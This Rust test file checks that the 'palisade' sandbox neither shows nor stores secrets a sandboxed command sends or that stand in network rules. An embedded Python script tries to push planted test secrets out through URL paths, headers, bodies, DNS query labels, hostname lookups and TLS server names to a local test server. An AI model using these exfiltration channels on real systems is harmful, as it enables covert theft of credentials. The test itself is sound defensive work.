//! The network of `palisade run`: secrets in addresses, methods, fields, content, names and greetings that leave a sandbox or are kept
//! from leaving it, in answers that break, and in the rules themselves; the proxy is the real one.
//!
//! What stands in an address in another writing than the secret's own and its percent-encoding is as it was sent: nobody gave it to us as a
//! secret. What a rule lets through reaches its server whole, which is looked at so that the test means something.

use std::io::{Read, Write};
use std::net::TcpListener;
use std::process::Stdio;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use crate::runs::Home;
use crate::search::Search;
use crate::secrets::{Planted, all};

/// Tries every secret of a file in every place of what can be sent to the one port there is, and in names that there are not.
const PLAY: &str = r#"
import json, socket, ssl, struct, sys, urllib.parse
port, texts = int(sys.argv[1]), json.load(open("planted.json"))
host = "host.palisade.local"
def talk(data, to=host):
    try:
        s = socket.create_connection((to, port), 5); s.settimeout(5); s.sendall(data)
        while s.recv(65536): pass
    except OSError: pass
def request(line, *fields, body=b""):
    head = [line + " HTTP/1.1", f"Host: {host}:{port}", "Connection: close", *fields]
    if body: head.append(f"Content-Length: {len(body)}")
    talk("\r\n".join(head).encode() + b"\r\n\r\n" + body)
def ask(labels):
    # By hand: what asks for names for programs refuses odd ones itself.
    server = [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")][0]
    family = socket.AF_INET6 if ":" in server else socket.AF_INET
    question = b"".join(bytes([len(one)]) + one for one in labels) + b"\0" + struct.pack(">HH", 1, 1)
    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(1)
    try: s.sendto(struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + question, (server, 53)); s.recv(4096)
    except OSError: pass
for text in texts:
    line, quoted = text.replace("\n", " "), urllib.parse.quote(text, safe="")
    raw = text if not any(c.isspace() for c in text) else quoted
    for target in [f"/ok/{quoted}", f"/no/{quoted}", f"/no/{raw}", f"/no/a/{raw}/b", f"/ok/x?token={quoted}", f"/no/x?{quoted}=1",
                   f"/no/x#{raw}", f"http://{raw}@{host}:{port}/ok/x", f"http://{raw}.example.org/x", raw, f"/ok/..//{raw}"]:
        request("GET " + target)
    request(raw.split("/")[0] + " /ok/x"); request("GET /ok/x " + raw)
    for field in ["X-Api-Key", "Authorization", "Cookie", "User-Agent", "Upgrade", "Transfer-Encoding", "Expect", "Host", "Referer",
                  "Sec-WebSocket-Protocol", "Content-Type", raw.split(":")[0]]:
        request("GET /ok/x", f"{field}: {line}")
        request("GET /no/x", f"{field}: {line}")
    body = text.encode()
    for path in ["/ok/x", "/no/x", "/ok/bad", "/ok/moved", "/ok/cut"]: request("POST " + path, body=body)
    request("POST /ok/x", "Transfer-Encoding: chunked", body=raw.encode() + b"\r\n\r\n")
    talk(body + b"\r\n\r\n"); talk(b"CONNECT " + raw.encode() + b":443 HTTP/1.1\r\n\r\n")
    plain = raw.encode()
    for labels in [[plain[:63], b"example", b"org"], [plain[at:at + 60] for at in range(0, min(len(plain), 180), 60)] + [b"test"]]:
        ask(labels)
    for name in [raw[:63] + ".example.org", "no." + raw[:60] + ".test"]:
        try: socket.getaddrinfo(name, 443)
        except (OSError, UnicodeError): pass
    try:
        context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
        name = "".join(c for c in raw if c.isalnum() or c in "-_.")[:63]
        context.wrap_socket(socket.create_connection((host, port), 5), server_hostname=name + ".example.org").close()
    except (OSError, UnicodeError, ValueError): pass
"#;

/// A server of this machine, which answers content with it, badly; everything that came.
fn server() -> (u16, Arc<Mutex<Vec<u8>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let (port, came) = (listener.local_addr().unwrap().port(), Arc::<Mutex<Vec<u8>>>::default());
    let all = Arc::clone(&came);
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let all = Arc::clone(&all);
            std::thread::spawn(move || {
                drop(stream.set_read_timeout(Some(Duration::from_millis(500))));
                let (mut bytes, mut some) = (Vec::new(), [0; 16 * 1024]);
                let whole = |bytes: &[u8]| {
                    let text = String::from_utf8_lossy(bytes).into_owned();
                    let (head, body) = text.split_once("\r\n\r\n")?;
                    let length = head.lines().find_map(|line| {
                        let (name, value) = line.split_once(": ")?;
                        name.eq_ignore_ascii_case("content-length").then(|| value.parse::<usize>().ok())?
                    });
                    (body.len() >= length.unwrap_or(0)).then(|| (head.to_owned(), body.to_owned()))
                };
                while whole(&bytes).is_none() {
                    match stream.read(&mut some) {
                        Ok(got @ 1..) => bytes.extend_from_slice(&some[..got]),
                        _ => break,
                    }
                }
                let (head, body) = whole(&bytes).unwrap_or_default();
                let line = body.replace('\n', " ");
                let answer = match head.split(' ').nth(1) {
                    Some("/ok/bad") => format!("HTTP/1.1 {line}\r\n{line}\r\n\r\n{line}"),
                    Some("/ok/moved") => {
                        format!("HTTP/1.1 302 {line}\r\nLocation: https://{line}/\r\nX-{line}: 1\r\n\r\n")
                    }
                    Some("/ok/cut") => format!("HTTP/1.1 200 OK\r\nContent-Length: {line}\r\n\r\n{line}"),
                    _ => "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok".to_owned(),
                };
                drop(stream.write_all(answer.as_bytes()));
                all.lock().unwrap().extend(bytes);
            });
        }
    });
    (port, came)
}

/// What is to be tried, where a command finds it.
fn lay_out(home: &Home, planted: &[Planted]) {
    let texts: Vec<&str> = planted.iter().map(|one| one.text.as_str()).collect();
    home.file("planted.json", &serde_json::to_string(&texts).unwrap());
    home.file("play.py", PLAY);
}

/// SEC-16: what a command sends, or would have sent, is said to nobody and kept nowhere with its secrets, whichever part of it they
/// stand in and whatever became of it.
#[test]
fn sec_16_what_goes_to_the_network_is_said_and_kept_nowhere() {
    let planted = all();
    let mut search = Search::new(&planted);
    let home = Home::new();
    lay_out(&home, &planted);
    let (port, came) = server();
    let rules = format!(
        "[[rule]]\nhost = \"host.palisade.local\"\nports = [{port}]\nmethods = [\"GET\", \"POST\"]\npaths = [\"/ok/**\"]\n"
    );
    home.file("rules.toml", &rules);
    let play = "python3 play.py PORT >/dev/null 2>&1".replace("PORT", &port.to_string());
    for options in [
        &["run", "--rules", "rules.toml", "--watch-net"][..],
        &["--json", "run", "--rules", "rules.toml"],
        &["run", "--learn", "learnt", "--rules", "rules.toml"],
    ] {
        let output = tests::fed(&mut home.palisade(&[options, &["--", "sh", "-c", &play]].concat()), "");
        let said = String::from_utf8_lossy(&output.stderr).into_owned();
        assert!(output.status.success(), "{options:?}: {said}");
        search.look(
            &format!("what `palisade {}` says", options.join(" ")),
            &[output.stdout, output.stderr].concat(),
        );
        std::fs::remove_file(home.project().join("learnt")).ok();
    }
    // The control: they did go out, and what did not is on record.
    let mut sent = Search::new(&planted);
    sent.look("what came to the server", &came.lock().unwrap());
    assert!(sent.found() >= planted.len(), "only {} went out", sent.found());
    let record: String = home.kept().into_iter().map(|(_, text)| text).collect();
    for kind in ["network.connect", "network.name", "network.finding"] {
        assert!(record.contains(kind), "nothing of {kind} is on record");
    }
    assert!(record.matches("***").count() > 3 * planted.len(), "what was refused is told without them");
    for words in [
        &["ps"][..],
        &["runs"],
        &["receipt", "show"],
        &["--json", "receipt", "show"],
        &["profile", "remembered"],
    ] {
        let output = tests::fed(&mut home.palisade(words), "");
        search.look(&words.join(" "), &[output.stdout, output.stderr].concat());
    }
    search.look_below(&home.state());
    search.assert_clean();
}

/// SEC-16: nor is a secret that stands in a rule, where the rules of a run are kept, shown and replaced.
#[test]
fn sec_16_what_stands_in_rules_is_said_and_kept_nowhere() {
    let planted = all();
    let mut search = Search::new(&planted);
    let home = Home::new();
    let (port, _) = server();
    let mut rules = String::new();
    for (n, one) in planted.iter().enumerate() {
        let line: String = one.line().replace(['\\', '"'], "'").chars().take(200).collect();
        // Where the value by itself can stand in a path, it does.
        let is_part = |value: &&str| value.bytes().all(|b| b.is_ascii_alphanumeric() || b"-_.".contains(&b));
        let part = one.alone().filter(is_part).map_or_else(|| format!("n{n}"), str::to_owned);
        rules.push_str(&format!(
            "[[rule]]\nhost = \"host.palisade.local\"\nports = [{port}]\npaths = [\"/x/{part}/**\"]\nlabel = \"{line}\"\nreason = \"{line}\"\nquery = {{ allow = [\"{part}\"] }}\n"
        ));
    }
    // One that is known by its host.
    let hook = planted.iter().find(|one| one.family == "slack, webhook").unwrap();
    rules.push_str(&format!(
        "[[rule]]\nhost = \"hooks.slack.com\"\npaths = [\"/services/{}\"]\n",
        hook.values[0]
    ));
    home.file("rules.toml", &rules);
    let script = "touch ready; while [ -e ready ]; do sleep 0.02; done";
    let mut run = home.palisade(&["run", "--rules", "rules.toml", "--watch-net", "--", "sh", "-c", script]);
    let mut run = run.stdin(Stdio::null()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    let (ready, until) = (home.project().join("ready"), Instant::now() + Duration::from_secs(60));
    while !ready.exists() {
        assert!(Instant::now() < until && run.try_wait().unwrap().is_none(), "it did not start");
        std::thread::sleep(Duration::from_millis(5));
    }
    let wrong = rules.replace("methods", "x") + "[[rule]]\nhost = \"*.com\"\n";
    home.file("wrong.toml", &wrong);
    for words in [
        &["rules"][..],
        &["--json", "rules"],
        &["rules", "--rules", "rules.toml"],
        &["rules", "--rules", "wrong.toml"],
        &["--json", "rules", "--rules", "wrong.toml"],
        &["rules"],
    ] {
        let output = tests::fed(&mut home.palisade(words), "");
        let is_wrong = words.contains(&"wrong.toml");
        assert_eq!(
            output.status.success(),
            !is_wrong,
            "{words:?}: {}",
            String::from_utf8_lossy(&output.stderr)
        );
        search.look(&words.join(" "), &[output.stdout, output.stderr].concat());
    }
    std::fs::remove_file(&ready).unwrap();
    let output = run.wait_with_output().unwrap();
    search.look("what the run says", &[output.stdout, output.stderr].concat());
    let kept = home.state().join("rules");
    let texts: Vec<String> = std::fs::read_dir(&kept)
        .unwrap()
        .map(|entry| std::fs::read_to_string(entry.unwrap().path()).unwrap())
        .collect();
    assert!(texts.iter().all(|text| text.contains("hooks.slack.com") && text.contains("***")), "{texts:?}");
    search.look_below(&home.state());
    search.assert_clean();
}
